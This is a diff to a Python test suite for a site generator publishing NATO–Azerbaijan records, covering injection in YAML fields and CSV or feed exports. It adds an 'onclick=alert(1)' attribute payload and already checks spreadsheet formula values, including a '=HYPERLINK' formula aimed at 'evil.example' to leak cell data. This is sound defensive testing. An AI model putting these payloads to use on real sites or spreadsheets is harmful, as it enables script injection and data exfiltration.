@@ -68,6 +68,8 @@ SEMANTIC = [
     ("events/1994.yaml", "The president signs", "The <b onclick=x>president</b> signs", "summary",
      "raw HTML", "summary:"),
     ("events/1994.yaml", "The president signs", "[x][r] signs", "summary", "a reference link", "summary:"),
+    ("events/1994.yaml", "title: Azerbaijan", 'title: "A\\n\\nB\\n{: onclick=alert(1) }"\n  x: Azerbaijan', "title",
+     "a line break or tab in a one-line field", 'title: "A'),
 ]
 
 
@@ -77,7 +79,7 @@ SEMANTIC = [
                               "bel", "rlo-raw", "zero-width", "tag-on-quoted-value", "tag-on-list", "custom-tag",
                               "octal-012", "hex-0x1f", "url-markup", "url-javascript", "archive-url-quote",
                               "md-javascript-link", "md-javascript-link-no-parens", "md-image", "md-attr-list",
-                              "md-raw-html", "md-reference-link"])
+                              "md-raw-html", "md-reference-link", "plain-line-break"])
 def test_bad_value_is_a_problem_at_its_line(mini: Path, file: str, old: str, new: str, field: str, text: str,
                                             needle: str) -> None:
     edit(mini / file, old, new)
@@ -216,13 +218,14 @@ def test_csv_cells_cannot_be_formulas_and_json_stays_exact(mini: Path) -> None:
     edit(mini / "sources/news-speech.yaml", "title: Official describes the partnership", f"title: '{title}'")
     edit(mini / "sources/news-speech.yaml", "author: A. Reporter", "author: '@SUM(1+1)'")
     edit(mini / "sources/news-speech.yaml", "publisher: Example News", 'publisher: "-2+3"')
-    edit(mini / "sources/mfa-overview.yaml", "title: ", 'title: "\\tTab first "\n# ')
     files = render_site(load_valid(mini)[0])
     rows = {r["id"]: r for r in csv.DictReader(io.StringIO(files["downloads/sources.csv"]))}
     assert rows["news-speech"]["title"] == "'" + title
     assert rows["news-speech"]["author"] == "'@SUM(1+1)"
     assert rows["news-speech"]["publisher"] == "'-2+3"
-    assert rows["mfa-overview"]["title"].startswith("'\t")
+    from natoaz.render.downloads import neutral_cell  # tab and CR cannot reach a one-line field, but still:
+
+    assert [neutral_cell(c) for c in ("\tx", "\rx", "+1", "a=b", "")] == ["'\tx", "'\rx", "'+1", "a=b", ""]
     records = {r["id"]: r for r in json.loads(files["downloads/nato-azerbaijan.json"])["records"]["sources"]}
     assert records["news-speech"]["title"] == title and records["news-speech"]["publisher"] == "-2+3"
     assert "source: =HYPERLINK(\"https://evil.example/?\"&amp;A1" in files["feed.xml"]  # Atom: exact, escaped
